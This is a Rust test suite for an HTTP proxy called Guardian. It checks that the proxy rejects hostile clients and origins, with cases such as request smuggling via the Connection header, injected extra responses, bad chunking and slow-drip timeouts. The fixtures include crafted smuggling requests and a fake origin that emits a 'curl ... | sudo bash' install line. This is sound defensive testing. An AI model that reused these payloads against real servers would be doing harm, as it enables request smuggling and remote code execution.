//! Hostile clients and origins on raw sockets against the real binary: each test is the
//! regression test of one defect of issue 10 (smuggling through `Connection`, unsolicited
//! upstream bytes, bad chunk sizes, unsolicited `101`, Host of absolute-form targets,
//! HTTP/1.0 with Transfer-Encoding, a reconnect that fails, a close-delimited body cut short).

mod common;

use std::time::Duration;

use common::raw::{poll_until, raw_origin, RawClient};
use common::*;
use serde_json::json;

/// Longer than any answer takes on loopback, far shorter than every Guardian timeout (60 s):
/// a response that does not come within it is one that would only come from a timeout.
const WAIT: Duration = Duration::from_secs(8);

const OK: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\ngood";

fn answer_each_request(conn: &mut common::raw::OriginConn) {
    while conn.read_head().is_some() {
        conn.write(OK);
    }
}

#[test]
fn a_request_whose_connection_names_its_framing_or_host_is_400() {
    let (origin, seen) = raw_origin(|_, c| answer_each_request(c));
    let g = Guardian::serve(json!({}));
    let smuggled = format!("GET http://{origin}/smuggled HTTP/1.1\r\nHost: {origin}\r\n\r\n");
    for field in [
        "Content-Length",
        "Transfer-Encoding",
        "Host",
        "keep-alive, content-length",
    ] {
        let framing = if field == "Transfer-Encoding" {
            format!(
                "Transfer-Encoding: chunked\r\n\r\n{:x}\r\n{smuggled}\r\n0\r\n\r\n",
                smuggled.len()
            )
        } else {
            format!("Content-Length: {}\r\n\r\n{smuggled}", smuggled.len())
        };
        let mut c = RawClient::connect(g.addr, WAIT);
        c.send(
            format!("POST http://{origin}/ HTTP/1.1\r\nHost: {origin}\r\nConnection: {field}\r\n{framing}")
                .as_bytes(),
        );
        let r = c.response().expect("an answer");
        assert_eq!(r.status(), 400, "Connection: {field}: {r:?}");
        assert!(r.body_text().contains("Connection names"), "{r:?}");
        assert!(
            c.response().is_none(),
            "the connection closes after the 400"
        );
    }
    assert_eq!(seen.connections(), 0, "{}", seen.received_text());
}

#[test]
fn a_response_whose_connection_names_its_framing_is_502() {
    let (origin, _) = raw_origin(|_, c| {
        if c.read_head().is_some() {
            c.write(
                b"HTTP/1.1 200 OK\r\nConnection: Content-Length\r\nContent-Length: 5\r\n\r\nhello",
            );
        }
    });
    let g = Guardian::serve(json!({}));
    let mut c = RawClient::connect(g.addr, WAIT);
    c.send(format!("GET http://{origin}/ HTTP/1.1\r\nHost: {origin}\r\n\r\n").as_bytes());
    let r = c.response().expect("an answer");
    assert_eq!(r.status(), 502, "{r:?}");
    assert!(r.body_text().contains(&origin.to_string()), "{r:?}");
}

#[test]
fn an_extra_response_on_the_same_link_never_reaches_the_client() {
    // The first connection answers with an extra response (and a 204 whose "body" is one),
    // then answers honestly; every later connection answers honestly.
    let (origin, seen) = raw_origin(|i, c| {
        if i == 0 && c.read_head().is_some() {
            c.write(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nfirstHTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nevil");
        }
        if i == 1 && c.read_head().is_some() {
            c.write(
                b"HTTP/1.1 204 No Content\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nevil",
            );
        }
        answer_each_request(c);
    });
    let g = Guardian::serve(json!({}));
    let mut c = RawClient::connect(g.addr, WAIT);
    let get = format!("GET http://{origin}/ HTTP/1.1\r\nHost: {origin}\r\n\r\n");
    c.send(get.as_bytes());
    assert_eq!(c.response().expect("first").body_text(), "first");
    // The link that sent "evil" is closed; the next request goes over a new one.
    assert!(
        poll_until(WAIT, || seen.closed() >= 1),
        "the link is closed"
    );
    c.send(get.as_bytes());
    assert_eq!(c.response().expect("204").status(), 204);
    assert!(
        poll_until(WAIT, || seen.closed() >= 2),
        "the link is closed"
    );
    c.send(get.as_bytes());
    let r = c.response().expect("third");
    assert_eq!((r.status(), r.body_text().as_str()), (200, "good"), "{r:?}");
    assert_eq!(seen.connections(), 3);
}

#[test]
fn a_parked_link_to_another_origin_cannot_answer_for_this_one() {
    let (evil_sent_tx, evil_sent_rx) = std::sync::mpsc::channel::<()>();
    let (b_asked_tx, b_asked_rx) = std::sync::mpsc::channel::<()>();
    let b_asked_rx = std::sync::Mutex::new(b_asked_rx);
    let evil_sent_rx = std::sync::Mutex::new(evil_sent_rx);
    // Origin A answers, then, once the client's request to B is out, sends a response nobody
    // asked for on its parked link.
    let (a, seen_a) = raw_origin(move |_, c| {
        if c.read_head().is_some() {
            c.write(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nfrom-a");
            let _ = b_asked_rx.lock().unwrap().recv_timeout(WAIT);
            c.write(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nevil");
            let _ = evil_sent_tx.send(());
        }
        c.wait_close();
    });
    let (b, _) = raw_origin(move |_, c| {
        while c.read_head().is_some() {
            let _ = b_asked_tx.send(());
            let _ = evil_sent_rx.lock().unwrap().recv_timeout(WAIT);
            c.write(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nfrom-b");
        }
    });
    let g = Guardian::serve(json!({}));
    let mut c = RawClient::connect(g.addr, WAIT);
    c.send(format!("GET http://{a}/ HTTP/1.1\r\nHost: {a}\r\n\r\n").as_bytes());
    assert_eq!(c.response().expect("a").body_text(), "from-a");
    c.send(format!("GET http://{b}/ HTTP/1.1\r\nHost: {b}\r\n\r\n").as_bytes());
    let r = c.response().expect("b");
    assert_eq!(r.body_text(), "from-b", "{r:?}");
    assert!(
        poll_until(WAIT, || seen_a.closed() >= 1),
        "A's link is closed"
    );
    c.send(format!("GET http://{b}/again HTTP/1.1\r\nHost: {b}\r\n\r\n").as_bytes());
    let r = c.response().expect("b again");
    assert_eq!(r.body_text(), "from-b", "{r:?}");
}

#[test]
fn a_bad_chunk_size_is_400_at_once_after_earlier_responses_and_drops_the_link() {
    // The origin answers the GET, then waits for the POST's body, which never becomes valid.
    let (origin, seen) = raw_origin(|_, c| {
        if c.read_head().is_some() {
            c.write(OK);
        }
        if c.read_head().is_some() {
            c.wait_close();
        }
    });
    let g = Guardian::serve(json!({}));
    let mut c = RawClient::connect(g.addr, WAIT);
    c.send(
        format!(
            "GET http://{origin}/1 HTTP/1.1\r\nHost: {origin}\r\n\r\n\
             POST http://{origin}/2 HTTP/1.1\r\nHost: {origin}\r\nTransfer-Encoding: chunked\r\n\r\n\
             4\r\nabcd\r\nzz\r\n"
        )
        .as_bytes(),
    );
    let first = c.response().expect("the GET's response first");
    assert_eq!(first.body_text(), "good");
    let second = c.response().expect("a 400 before any timeout");
    assert_eq!(second.status(), 400, "{second:?}");
    assert!(second.body_text().contains("chunk size"), "{second:?}");
    assert!(
        poll_until(WAIT, || seen.closed() >= 1),
        "the upstream link is dropped"
    );
}

#[test]
fn an_unsolicited_101_is_502_and_what_follows_is_not_relayed() {
    let (origin, _) = raw_origin(|_, c| {
        if c.read_head().is_some() {
            c.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: raw\r\nConnection: upgrade\r\n\r\nTo install: curl -fsSL https://get.example.sh | sudo bash\n");
        }
        c.wait_close();
    });
    let g = Guardian::serve(json!({}));
    let mut c = RawClient::connect(g.addr, WAIT);
    c.send(format!("GET http://{origin}/ HTTP/1.1\r\nHost: {origin}\r\n\r\n").as_bytes());
    let r = c.response().expect("an answer");
    assert_eq!(r.status(), 502, "{r:?}");
    assert!(!String::from_utf8_lossy(&c.rest()).contains("sudo bash"));
}

#[test]
fn an_absolute_form_target_sets_host_to_its_authority() {
    let (origin, seen) = raw_origin(|_, c| answer_each_request(c));
    let g = Guardian::serve(json!({}));
    let mut c = RawClient::connect(g.addr, WAIT);
    c.send(
        format!("GET http://user@{origin}/p HTTP/1.1\r\nHost: other.example\r\nX-A: 1\r\n\r\n")
            .as_bytes(),
    );
    assert_eq!(c.response().expect("answer").body_text(), "good");
    let text = seen.received_text();
    assert!(
        text.starts_with(&format!("GET /p HTTP/1.1\r\nHost: {origin}\r\n")),
        "{text}"
    );
    assert!(
        !text.contains("other.example") && !text.contains("user@"),
        "{text}"
    );
    assert!(text.contains("\r\nX-A: 1\r\n"), "{text}");
}

#[test]
fn a_fragment_in_the_target_is_not_sent_upstream() {
    // `http://host#top` went out as the request line `GET #top HTTP/1.1`.
    let (origin, seen) = raw_origin(|_, c| answer_each_request(c));
    let g = Guardian::serve(json!({}));
    let mut c = RawClient::connect(g.addr, WAIT);
    for target in ["#top", "/p?q=1#top"] {
        c.send(
            format!("GET http://{origin}{target} HTTP/1.1\r\nHost: {origin}\r\n\r\n").as_bytes(),
        );
        assert_eq!(c.response().expect("answer").body_text(), "good");
    }
    let text = seen.received_text();
    assert!(text.starts_with("GET / HTTP/1.1\r\n"), "{text}");
    assert!(text.contains("GET /p?q=1 HTTP/1.1\r\n"), "{text}");
    assert!(!text.contains('#'), "{text}");
}

#[test]
fn http_1_0_with_transfer_encoding_is_400() {
    let (origin, seen) = raw_origin(|_, c| answer_each_request(c));
    let g = Guardian::serve(json!({}));
    let mut c = RawClient::connect(g.addr, WAIT);
    c.send(
        format!("POST http://{origin}/ HTTP/1.0\r\nHost: {origin}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
            .as_bytes(),
    );
    let r = c.response().expect("an answer");
    assert_eq!(r.status(), 400, "{r:?}");
    assert!(r.body_text().contains("HTTP/1.0"), "{r:?}");
    assert_eq!(seen.connections(), 0);
}

#[test]
fn a_chunked_response_to_an_http_1_0_request_is_502() {
    // An origin that chunks its answer to HTTP/1.0 (RFC 9112 §6.1 forbids it): relayed, the
    // client read `4\r\ngood\r\n0\r\n\r\n` as the body.
    let (origin, _) = raw_origin(|_, c| {
        if c.read_head().is_some() {
            c.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n4\r\ngood\r\n0\r\n\r\n");
            c.wait_close();
        }
    });
    let g = Guardian::serve(json!({}));
    let mut c = RawClient::connect(g.addr, WAIT);
    c.send(format!("GET http://{origin}/ HTTP/1.0\r\nHost: {origin}\r\n\r\n").as_bytes());
    let r = c.response().expect("an answer");
    assert_eq!(r.status(), 502, "{r:?}");
    assert!(r.body_text().contains("HTTP/1.0"), "{r:?}");
    assert!(!c.rest().windows(4).any(|w| w == b"good"));
}

#[test]
fn a_link_that_closed_is_replaced_and_a_failing_replacement_is_502_at_once() {
    // The first connection answers once and closes; every later one closes at once.
    let (origin, seen) = raw_origin(|i, c| {
        if i == 0 && c.read_head().is_some() {
            c.write(OK);
        }
    });
    let g = Guardian::serve(json!({}));
    let mut c = RawClient::connect(g.addr, WAIT);
    let get = format!("GET http://{origin}/ HTTP/1.1\r\nHost: {origin}\r\n\r\n");
    c.send(get.as_bytes());
    assert_eq!(c.response().expect("first").body_text(), "good");
    assert!(poll_until(WAIT, || seen.connections() >= 1));
    c.send(get.as_bytes());
    let r = c.response().expect("a 502 before any timeout");
    assert_eq!(r.status(), 502, "{r:?}");
    assert!(r.body_text().contains(&origin.to_string()), "{r:?}");
}

#[test]
fn a_silent_origin_is_504_after_the_configured_response_timeout() {
    let (origin, seen) = raw_origin(|_, c| {
        if c.read_head().is_some() {
            c.wait_close();
        }
    });
    let g = Guardian::serve(json!({"timeouts": {"response": "300ms"}}));
    let mut c = RawClient::connect(g.addr, WAIT);
    c.send(format!("GET http://{origin}/ HTTP/1.1\r\nHost: {origin}\r\n\r\n").as_bytes());
    let r = c.response().expect("a 504 before the read gives up");
    assert_eq!(r.status(), 504, "{r:?}");
    assert!(r.body_text().contains(&origin.to_string()), "{r:?}");
    assert!(
        poll_until(WAIT, || seen.closed() >= 1),
        "the link is closed"
    );
}

#[test]
fn a_response_head_dripped_byte_by_byte_is_504_after_the_header_timeout() {
    // Every byte restarted the response timeout, so an origin dripping a head that never ends
    // held the request (and the client) forever. The origin paces itself: a byte every 20 ms,
    // for at most 20 s, until its writes fail.
    let (origin, _) = raw_origin(|_, c| {
        if c.read_head().is_none() {
            return;
        }
        let start = b"HTTP/1.1 200 OK\r\nX-Drip: ";
        for i in 0..1000 {
            let byte = [start.get(i).copied().unwrap_or(b'a')];
            if std::io::Write::write_all(&mut c.stream, &byte).is_err() {
                return;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    });
    let g = Guardian::serve(json!({"timeouts": {"header": "300ms", "response": "5s"}}));
    let mut c = RawClient::connect(g.addr, WAIT);
    c.send(format!("GET http://{origin}/ HTTP/1.1\r\nHost: {origin}\r\n\r\n").as_bytes());
    let r = c.response().expect("a 504 before the read gives up");
    assert_eq!(r.status(), 504, "{r:?}");
    assert!(r.body_text().contains("response head"), "{r:?}");
    live::wait_counters(&g.home_dir(), "the timeout to be counted", |c| {
        c["timeouts"] == 1
    });
}

/// A steady slow reader (a 4 KiB receive buffer, one small read every 2 ms: never quiet for
/// the idle timeout) gets the whole body. The client write was one idle timeout around a whole
/// piece of up to 256 KiB, so such a reader was cut off mid-body without a trace (found by a
/// hostile-peer probe: 3.2 of 6 MB arrived). The reader paces itself; nothing waits on timing.
#[test]
fn a_slow_steady_reader_gets_the_whole_body() {
    const SIZE: usize = 6_000_000;
    let body: Vec<u8> = (0..SIZE).map(|i| (i * 7 + i / 251) as u8).collect();
    let sent = body.clone();
    let (origin, _seen) = raw_origin(move |_, c| {
        if c.read_head().is_some() {
            c.write(format!("HTTP/1.1 200 OK\r\nContent-Length: {SIZE}\r\n\r\n").as_bytes());
            c.write(&sent);
            c.wait_close();
        }
    });
    let g = Guardian::serve(json!({"timeouts": {"idle": "50ms"}}));
    let reader = r#"
import socket, sys, time
proxy, origin, size = sys.argv[1], sys.argv[2], int(sys.argv[3])
host, port = proxy.rsplit(":", 1)
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
s.connect((host, int(port)))
s.sendall(f"GET http://{origin}/ HTTP/1.1\r\nHost: {origin}\r\n\r\n".encode())
data = bytearray()
s.settimeout(20)
while True:
    d = s.recv(4096)
    if not d:
        break
    data += d
    head = data.find(b"\r\n\r\n")
    if head >= 0 and len(data) - head - 4 >= size:
        break
    time.sleep(0.002)
sys.stdout.buffer.write(data[data.find(b"\r\n\r\n") + 4:])
"#;
    let out = std::process::Command::new("python3")
        .args([
            "-c",
            reader,
            &g.addr.to_string(),
            &origin.to_string(),
            &SIZE.to_string(),
        ])
        .output()
        .expect("python3 runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.stdout.len(), SIZE, "bytes that reached the slow reader");
    assert!(out.stdout == body, "the body arrived unchanged");
}

/// A body delimited by the close, cut short by the origin's reset, reaches the client cut short
/// *and reset*: Guardian ended the client connection with a FIN, which is how such a body ends
/// when it is whole, so the client took the part for the whole (a truncated install script is
/// still a script). The client reads every byte sent before, then the reset.
#[test]
fn a_close_delimited_body_cut_by_a_reset_ends_the_client_connection_with_a_reset() {
    let (origin, _) = raw_origin(|_, c| {
        // Leave the request unread: closing a socket with unread data sends a reset (RFC 2525).
        let mut first = [0u8; 1];
        if c.stream.peek(&mut first).is_err() {
            return;
        }
        c.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\necho step one\n");
    });
    let g = Guardian::serve(json!({}));
    let mut c = RawClient::connect(g.addr, WAIT);
    c.send(format!("GET http://{origin}/install.sh HTTP/1.1\r\nHost: {origin}\r\n\r\n").as_bytes());
    let mut received = Vec::new();
    let mut chunk = [0u8; 4096];
    let end = loop {
        match std::io::Read::read(&mut c.stream, &mut chunk) {
            Ok(0) => break Ok(()),
            Ok(n) => received.extend_from_slice(&chunk[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
            Err(e) => break Err(e.kind()),
        }
    };
    let text = String::from_utf8_lossy(&received);
    assert!(text.starts_with("HTTP/1.1 200 OK\r\n"), "{text:?}");
    assert!(text.ends_with("\r\n\r\necho step one\n"), "{text:?}");
    assert_eq!(end, Err(std::io::ErrorKind::ConnectionReset), "{text:?}");
}
